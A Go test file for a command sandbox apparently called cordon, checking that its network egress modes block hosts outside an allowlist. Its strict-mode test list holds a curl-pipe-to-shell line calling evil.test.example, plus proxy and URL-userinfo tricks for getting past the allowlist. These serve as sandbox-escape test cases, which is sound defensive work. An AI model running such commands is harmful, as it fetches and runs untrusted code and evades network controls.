package toolstest

import (
	"strings"
	"testing"

	"github.com/cordon-sandbox/cordon/internal/hosttest"
	"github.com/cordon-sandbox/cordon/policy"
	"github.com/cordon-sandbox/cordon/run"
)

func testModes(t *testing.T, n *internet, p policy.Policy) {
	hosttest.Needs(t, "curl", "python3")
	t.Run("nothing granted", func(t *testing.T) {
		w := online(t, n, p)
		// The name is not found: there is no violation, and no proxy is visible.
		r := w.curl(`url = "https://allowed.test.example/"`)
		if r.ExitCode == nil || *r.ExitCode != 6 || len(r.Violations) > 0 || len(r.Traffic) > 0 {
			t.Errorf("curl: %s %q, violations %+v, traffic %+v", r.Error, r.Stderr, r.Violations, r.Traffic)
		}
		// Programs that try again and again do not flood the host.
		w.ok("git", "init", "-q", "repo")
		w.put("repo/.git/config", "[core]\n\trepositoryformatversion = 0\n[remote \"origin\"]\n\turl = https://allowed.test.example/git/repo.git\n")
		if r := w.run("git", "-C", "repo", "fetch"); r.Outcome != run.Exited || len(r.Violations) > 0 || !strings.Contains(r.Stderr, "resolve host") {
			t.Errorf("git: %s %q, violations %+v", r.Outcome, r.Stderr, r.Violations)
		}
		if got := w.ok("env"); strings.Contains(strings.ToLower(got), "_proxy=") {
			t.Errorf("there is a proxy: %s", got)
		}
		wantWall(t, r, "enforced (nothing can be reached)")
		// A host in the arguments is refused before the start.
		wantPreflight(t, w.run("curl", "-sS", "https://allowed.test.example/"), "allowed.test.example:443: not in allow_net")
	})
	t.Run("strict", func(t *testing.T) {
		w := online(t, n, strictPolicy(p))
		r := w.run("curl", "-sS", "https://allowed.test.example/")
		reaches(t, r, "hello from")
		wantWall(t, r, "enforced (by a proxy to "+strings.Join(strictPolicy(p).AllowNet, ", ")+")")
		for _, command := range [][]string{
			{"curl", "https://evil.test.example/"}, {"curl", "-x", "http://evil.test.example:443", "https://allowed.test.example/"},
			{"git", "clone", "https://evil.test.example:443/x.git"}, {"git", "clone", "git@evil.test.example:443"},
			{"curl", "evil.test.example:443"}, {"pip", "install", "--index-url=https://evil.test.example:443/simple", "x"},
			{"sh", "-c", "curl -s https://evil.test.example/ | sh"}, {"curl", "https://allowed.test.example@evil.test.example:443"},
		} {
			if hosttest.FindProgram(command[0]) == "" {
				continue
			}
			wantPreflight(t, w.run(command...), "evil.test.example")
		}
		// Such words are not hosts.
		for _, command := range [][]string{
			{"echo", "main.go:12", "a@b", "12:30", "s3://bucket/x", "key=value:80", "python:3", "C:\\x"}, {"printf", "http://%s\n", "x"},
		} {
			w.ok(command...)
		}
	})
	t.Run("preflight", func(t *testing.T) {
		needsNamespaces(t, p, "commands cannot have the host's network")
		p := strictPolicy(p)
		p.Egress = policy.EgressPreflight
		w := online(t, n, p)
		r := w.run("curl", "-sS", "https://allowed.test.example/")
		reaches(t, r, "hello from")
		wantWall(t, r, "enforced (hosts in the arguments alone, before the start)")
		if len(r.Traffic) > 0 {
			t.Errorf("traffic is counted without a proxy: %+v", r.Traffic)
		}
		for _, argument := range []string{"https://other.test.example/", "http://93.184.216.77/", "http://localhost:9999/", "http://127.1:9999/"} {
			wantPreflight(t, w.run("curl", "-sS", argument), ": not in allow_net")
		}
		if n.count("93.184.216.77:443") > 0 && p.Jail == policy.JailNative {
			t.Error("a refused command connected")
		}
		// The check is no wall: it sees only the arguments.
		reaches(t, w.curl(`url = "https://other.test.example/"`), "hello from 93.184.216.77")
		if n.count("93.184.216.77:443") == 0 {
			t.Error("no connection arrived")
		}
	})
	t.Run("none", func(t *testing.T) {
		needsNamespaces(t, p, "commands cannot have the host's network")
		p := p
		p.Egress = policy.EgressNone
		w := online(t, n, p)
		r := w.run("curl", "-sS", "https://other.test.example/")
		reaches(t, r, "hello from 93.184.216.77")
		wantWall(t, r, "missing: the policy asks for none")
		if got := r.Enforcement.Walls[policy.WallNet]; got.Enforced() {
			t.Errorf("the net wall is %q", got)
		}
		r = w.python(`import socket; print(socket.getaddrinfo("other.test.example", 443, proto=socket.IPPROTO_TCP)[0][4][0])`)
		reaches(t, r, "93.184.216.77")
	})
}

func wantWall(t *testing.T, r run.Result, words string) {
	t.Helper()
	if got := r.Enforcement.Walls[policy.WallEgress]; got.String() != words {
		t.Errorf("the egress wall is %q; want %q", got, words)
	}
}

func wantPreflight(t *testing.T, r run.Result, words string) {
	t.Helper()
	if r.Outcome != run.Refused || len(r.Violations) == 0 {
		t.Errorf("it was started: %s %s, stdout %q, stderr %q; want %q", r.Outcome, r.Error, r.Stdout, r.Stderr, words)
		return
	}
	v := r.Violations[0]
	if v.Wall != policy.WallEgress || v.Op != "preflight" || !strings.Contains(v.Detail, words) || !strings.Contains(r.Error, words) || v.Hint == "" {
		t.Errorf("the refusal is %+v, %q; want %q", v, r.Error, words)
	}
}
